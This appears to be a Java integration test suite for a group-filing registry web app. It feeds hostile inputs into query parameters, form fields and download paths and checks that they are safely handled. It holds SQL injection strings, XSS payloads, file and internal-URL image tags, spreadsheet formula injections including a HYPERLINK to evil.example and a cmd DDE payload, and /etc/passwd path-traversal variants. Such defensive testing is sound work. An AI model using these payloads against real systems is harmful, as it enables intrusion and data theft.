package org.qunbei.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayInputStream;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.qunbei.support.Api;
import org.qunbei.support.Hostile;
import org.qunbei.support.PageSession;
import org.qunbei.support.Samples;
import org.qunbei.support.TestDatabases;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The attacks of issue 11 on what is read: SQL injection and malformed values through every query
 * parameter, stored script, file and internal-URL images and formulas through every text field into
 * the pages, the PDF, the Word file and the export, and path traversal in downloads.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class HostileReadIT {

  @LocalServerPort int port;

  @DynamicPropertySource
  static void database(DynamicPropertyRegistry registry) {
    TestDatabases.register("h2", registry);
  }

  /** What goes into a query parameter: injections, wildcards, sizes, wrong types and dates. */
  static final List<String> VALUES =
      List.of(
          "' OR '1'='1",
          "' OR 1=1--",
          "'; drop table filing;--",
          "1 OR 1=1",
          "1; select 1",
          "1) UNION SELECT username FROM user_account--",
          "%",
          "_",
          "\\",
          "'",
          "\"",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "../../etc/passwd",
          "\u0000",
          "\u0085",
          "\u202e",
          "-1",
          "0",
          "2147483648",
          "99999999999999999999",
          "1e3",
          "0x10",
          "abc",
          "2026-02-30",
          "9999-99-99",
          "+999999999-12-31",
          "",
          " ",
          "x".repeat(3000),
          "updatedAt,sideways",
          "groupName;drop table filing",
          "id,desc,extra",
          "(select 1)",
          "中文",
          "😀",
          "null",
          "[]");

  /** Every GET that reads query parameters, the user who may call it, and its parameters. */
  static final List<Object[]> READS =
      List.of(
          read(
              "/api/filings",
              "cyberoffice",
              "q",
              "department",
              "type",
              "status",
              "page",
              "size",
              "sort"),
          read(
              "/registry",
              "cyberoffice",
              "q",
              "department",
              "type",
              "status",
              "page",
              "size",
              "sort"),
          read("/filings/mine", "applicant", "q", "type", "status", "page", "size", "sort"),
          read("/api/filings/export", "cyberoffice", "q", "department", "type", "status", "sort"),
          read("/api/statistics", "cyberoffice", "from", "to"),
          read("/statistics", "cyberoffice", "from", "to"),
          read("/api/audit", "auditor", "filing", "actor", "action", "page", "size", "from", "to"),
          read("/audit", "auditor", "filing", "actor", "action", "page", "size", "from", "to"),
          read("/api/audit/verify", "auditor", "filing"),
          read("/api/calendar/deadline", "applicant", "from", "workingDays"),
          read("/api/tasks", "depthead", "page", "size"),
          read("/tasks", "depthead", "page"),
          read("/api/notices", "applicant", "page", "size"),
          read("/notices", "applicant", "page"),
          read("/api/filings/1/diff", "applicant", "from"),
          read("/filings/1/diff", "applicant", "from"),
          read("/verify", null, "code"),
          read("/jobs", "cyberoffice", "page"),
          read("/admin/users", "admin", "q", "page", "department"),
          read("/lifecycle/alerts", "cyberoffice", "page"),
          read("/reviews", "cyberoffice", "page"));

  private static Object[] read(String path, String user, String... params) {
    return new Object[] {path, user, params};
  }

  private final Map<String, Api> clients = new java.util.HashMap<>();
  private final Map<String, PageSession> sessions = new java.util.HashMap<>();

  /** A signed-in browser: pages take the session, not a token. */
  private PageSession session(String user) {
    return sessions.computeIfAbsent(user, u -> new PageSession(port, u, "demo123"));
  }

  /** A token per user: thousands of calls with HTTP Basic would each pay the password hash. */
  private Api as(String user) {
    if (user == null) {
      return Api.anonymous(port);
    }
    return clients.computeIfAbsent(
        user,
        u -> {
          var made = Api.as(port, u).post("/api/me/tokens", "{\"name\":\"读取\",\"days\":1}");
          assertThat(made.status()).as(made.text()).isEqualTo(201);
          return Api.bearer(port, made.json().path("token").asString());
        });
  }

  @Test
  void everyQueryParameterTakesInjectionsAndNonsenseWithA2xxOr4xx() {
    int calls = 0;
    int pages = 0;
    for (Object[] r : READS) {
      String path = (String) r[0];
      boolean page = !path.startsWith("/api") && r[1] != null;
      Api api = page ? null : as((String) r[1]);
      for (String param : (String[]) r[2]) {
        for (String value : VALUES) {
          String url =
              path
                  + (path.contains("?") ? "&" : "?")
                  + param
                  + "="
                  + URLEncoder.encode(value, StandardCharsets.UTF_8);
          String what = "GET " + path + "?" + param + "=" + Hostile.quote(cut(value));
          int status;
          String body;
          String type;
          if (page) {
            var reply = session((String) r[1]).get(url);
            status = reply.statusCode();
            body = reply.body();
            type = reply.headers().firstValue("Content-Type").orElse("");
          } else {
            var reply = api.get(url);
            status = reply.status();
            body = reply.text();
            type = String.valueOf(reply.header("Content-Type"));
          }
          Hostile.answered(status, body, what);
          assertThat(status).as("%s: %s", what, cut(body)).isNotIn(401, 403);
          if (status == 200 && type.startsWith("text/html")) {
            Hostile.noInjectedMarkup(body, what);
            pages++;
          }
          calls++;
        }
      }
    }
    assertThat(calls).isGreaterThan(1000);
    assertThat(pages).as("pages shown with the value in them").isGreaterThan(200);
  }

  @Test
  void anInjectionInTheSearchFindsNothing() {
    long mine = filing("applicant", "检索注入测试群", true);
    var office = as("cyberoffice");
    long all = office.get("/api/filings?size=100").json().path("totalElements").asLong();
    assertThat(all).isGreaterThan(1);
    for (String q :
        List.of("' OR '1'='1", "' OR 1=1--", "%", "_", "%' OR '%'='", "\\", "') OR ('a'='a")) {
      JsonNode page =
          office.get("/api/filings?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8)).json();
      assertThat(page.path("totalElements").asLong()).as("q=%s", q).isZero();
    }
    // Scope holds whatever is typed: another department's applicant finds none of CS's filings.
    var other = as("applicant2");
    for (String q : List.of("", "' OR '1'='1", "检索注入测试群", "%")) {
      for (JsonNode f :
          other
              .get("/api/filings?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8))
              .json()
              .path("content")) {
        assertThat(f.path("id").asLong()).as("q=%s", q).isNotEqualTo(mine);
        assertThat(f.path("departmentCode").asString()).isNotEqualTo("CS");
      }
    }
  }

  @Test
  void storedScriptFileAndInternalImagesAndFormulasStayTextInPagesPdfWordAndExport()
      throws Exception {
    AtomicInteger fetched = new AtomicInteger();
    HttpServer internal = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    internal.createContext(
        "/",
        x -> {
          fetched.incrementAndGet();
          x.sendResponseHeaders(200, -1);
          x.close();
        });
    internal.start();
    try {
      String remote =
          "<img src=\"http://127.0.0.1:" + internal.getAddress().getPort() + "/x.png\">";
      long id = hostileFiling(remote);
      var applicant = as("applicant");
      var office = as("cyberoffice");

      var shown = session("applicant").get("/filings/" + id);
      assertThat(shown.statusCode()).isEqualTo(200);
      String page = shown.body();
      Hostile.noInjectedMarkup(page, "the filing page");
      assertThat(page).contains("&lt;script&gt;alert(1)&lt;/script&gt;");
      var listed = session("cyberoffice").get("/registry?q=XSS");
      assertThat(listed.statusCode()).isEqualTo(200);
      String registry = listed.body();
      Hostile.noInjectedMarkup(registry, "the registry page");
      assertThat(registry).contains("XSS");

      Api.Reply pdf = applicant.get("/api/filings/" + id + "/pdf");
      assertThat(pdf.status()).as(pdf.text()).isEqualTo(200);
      String printed;
      try (var doc = Loader.loadPDF(pdf.bytes())) {
        printed = new PDFTextStripper().getText(doc).replaceAll("\\s+", "");
      }
      assertThat(printed)
          .contains("<script>alert(1)</script>", "onerror=alert(1)", "file:///etc/passwd");
      assertThat(printed).doesNotContain("root:x:0:0");
      assertThat(fetched.get()).as("requests the PDF renderer made to a local server").isZero();

      Api.Reply docx = applicant.get("/api/filings/" + id + "/docx");
      assertThat(docx.status()).isEqualTo(200);
      try (var word = new XWPFDocument(new ByteArrayInputStream(docx.bytes()));
          var text = new XWPFWordExtractor(word)) {
        assertThat(text.getText())
            .contains("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
            .doesNotContain("root:x:0:0");
        for (var rel : word.getPackagePart().getRelationships()) {
          assertThat(rel.getTargetURI().toString())
              .as("a link of the Word file")
              .doesNotContain("file:", "127.0.0.1", "etc/passwd");
        }
      }

      Api.Reply xlsx =
          office.get("/api/filings/export?q=" + URLEncoder.encode("XSS", StandardCharsets.UTF_8));
      assertThat(xlsx.status()).isEqualTo(200);
      List<String> formulaLike = new ArrayList<>();
      try (var book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.bytes()))) {
        for (var row : book.getSheetAt(0)) {
          for (var cell : row) {
            assertThat(cell.getCellType())
                .as("cell %s", cell.getAddress())
                .isNotEqualTo(CellType.FORMULA);
            if (cell.getCellType() == CellType.STRING) {
              String v = cell.getStringCellValue();
              if (!v.isEmpty() && "=+-@".indexOf(v.charAt(0)) >= 0) {
                formulaLike.add(v);
                assertThat(cell.getCellStyle().getQuotePrefixed())
                    .as("quote prefix on %s = %s", cell.getAddress(), v)
                    .isTrue();
              }
            }
          }
        }
      }
      assertThat(formulaLike)
          .contains(
              "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "@SUM(1+1)");
      assertThat(fetched.get()).isZero();
    } finally {
      internal.stop(0);
    }
  }

  @Test
  void aDownloadByAPathOrAnOddIdIsRefusedAndNeverAFile() {
    long id = filing("applicant", "下载穿越测试群", false);
    List<String> ids =
        List.of(
            "../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/etc/passwd",
            "..%252f..%252fetc%252fpasswd",
            "..\\..\\etc\\passwd",
            "%00",
            id + "%00.pdf",
            id + ".pdf",
            id + "/../../" + id,
            "-1",
            "abc",
            "1e3",
            "9223372036854775808",
            "file:%2f%2f%2fetc%2fpasswd",
            "%c0%ae%c0%ae%2fetc%2fpasswd");
    List<String> downloads =
        List.of(
            "/api/filings/{id}/pdf",
            "/filings/{id}/pdf",
            "/api/filings/{id}/docx",
            "/filings/{id}/docx",
            "/api/filings/{id}/qr-code",
            "/filings/{id}/qr-code",
            "/jobs/{id}/file",
            "/api/registry/jobs/{id}",
            "/seals/{id}",
            "/reviews/{id}/report.xlsx",
            "/api/admin/staff-imports/{id}");
    for (String d : downloads) {
      String user =
          d.startsWith("/api/admin") ? "admin" : d.contains("job") ? "cyberoffice" : "applicant";
      for (String bad : ids) {
        String path = d.replace("{id}", bad);
        int status;
        String body;
        try {
          if (path.startsWith("/api")) {
            Api.Reply r = as(user).get(path);
            status = r.status();
            body = r.text();
          } else {
            var r = session(user).get(path);
            status = r.statusCode();
            body = r.body();
          }
        } catch (IllegalArgumentException notAUri) {
          continue; // the client itself refuses to send it
        }
        Hostile.answered(status, body, "GET " + path);
        assertThat(status).as("GET %s: %s", path, cut(body)).isBetween(400, 499).isNotIn(401, 403);
        assertThat(body).as(path).doesNotContain("root:x:0:0");
      }
    }
    for (String path :
        List.of(
            "/css/..%2f..%2f..%2fapplication.yml",
            "/css/../../application.yml",
            "/webjars/..%2f..%2fetc%2fpasswd",
            "/favicon.svg/..%2f..%2fetc%2fpasswd",
            "/static/../application.yml",
            "/..%2f..%2fetc%2fpasswd")) {
      var r = session("applicant").get(path);
      Hostile.answered(r.statusCode(), r.body(), "GET " + path);
      assertThat(r.statusCode()).as(path).isBetween(400, 499);
      assertThat(r.body()).doesNotContain("root:x:0:0", "datasource");
    }
  }

  @Test
  void aSignInWithAnAttackersNameIsRefusedNotAFailure() {
    for (String name :
        List.of("x".repeat(300), "' OR '1'='1", "admin'--", "a\u0000b", "<script>", "\ud800")) {
      String user = name.replace("\\u0000", "\u0000").replace("\\ud800", "\ud800");
      var anonymous = Api.anonymous(port);
      Api.Reply basic =
          anonymous.send(
              anonymous
                  .request("/api/filings")
                  .header(
                      "Authorization",
                      "Basic "
                          + java.util.Base64.getEncoder()
                              .encodeToString((user + ":x").getBytes(StandardCharsets.UTF_8)))
                  .GET());
      Hostile.answered(basic.status(), basic.text(), "Basic as " + Hostile.quote(cut(user)));
      assertThat(basic.status()).isEqualTo(401);
    }
    Api.Reply audit = as("auditor").get("/api/audit?size=100");
    assertThat(audit.status()).isEqualTo(200);
    Hostile.stored(audit.json().path("content"), "the audit trail");
  }

  // ---- material ----

  /** A filing with a text of the attacker's in every free-text field, submitted. */
  private long hostileFiling(String remoteImage) {
    String script = "<script>alert(1)</script>";
    String handler = "<img src=x onerror=alert(1)>";
    String file = "<img src=\"file:///etc/passwd\">";
    String all = "XSS " + script + handler + file + remoteImage;
    ObjectNode body = Samples.example();
    body.put("groupType", "QQ").put("groupNumber", uniqueNumber());
    body.put("groupName", "XSS" + script + handler + file);
    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    body.put("compositionDetails", hyperlink);
    var team = body.withArray("team");
    String[] names = {script, handler, file, "@SUM(1+1)"};
    for (int i = 0; i < team.size(); i++) {
      ObjectNode m = (ObjectNode) team.get(i);
      m.put("name", names[i]);
      m.put("title", i == 0 ? "+cmd|' /C calc'!A0" : "@SUM(1+1)");
      m.put("duties", all);
    }
    ObjectNode steward = (ObjectNode) body.path("externalSteward");
    steward.put("name", team.get(1).path("name").asString());
    steward.put("title", team.get(1).path("title").asString());
    ObjectNode rules = (ObjectNode) body.path("rules");
    for (String f : List.of("publishingScope", "admission", "exit", "incidentResponse")) {
      rules.put(f, all);
    }
    ObjectNode retention = (ObjectNode) rules.path("retention");
    retention.put("period", remoteImage.substring(0, Math.min(50, remoteImage.length())));
    retention.put("archivist", team.get(1).path("name").asString());
    retention.put("archiveMethod", all);
    var applicant = as("applicant");
    Api.Reply made = applicant.post("/api/filings", body.toString());
    assertThat(made.status()).as(made.text()).isEqualTo(201);
    long id = made.json().path("id").asLong();
    Api.Reply submitted = applicant.post("/api/filings/" + id + "/submit", "");
    assertThat(submitted.status()).as(submitted.text()).isEqualTo(200);
    return id;
  }

  private long filing(String user, String name, boolean submit) {
    ObjectNode body = Samples.example();
    body.put("groupType", "QQ").put("groupNumber", uniqueNumber()).put("groupName", name);
    var api = as(user);
    long id = api.post("/api/filings", body.toString()).json().path("id").asLong();
    if (submit) {
      assertThat(api.post("/api/filings/" + id + "/submit", "").status()).isEqualTo(200);
    }
    return id;
  }

  private static String uniqueNumber() {
    return String.valueOf(
        10_000_000L + java.util.concurrent.ThreadLocalRandom.current().nextLong(3_000_000_000L));
  }

  private static String cut(String s) {
    return s.length() > 80 ? s.substring(0, 80) + "…" : s;
  }
}
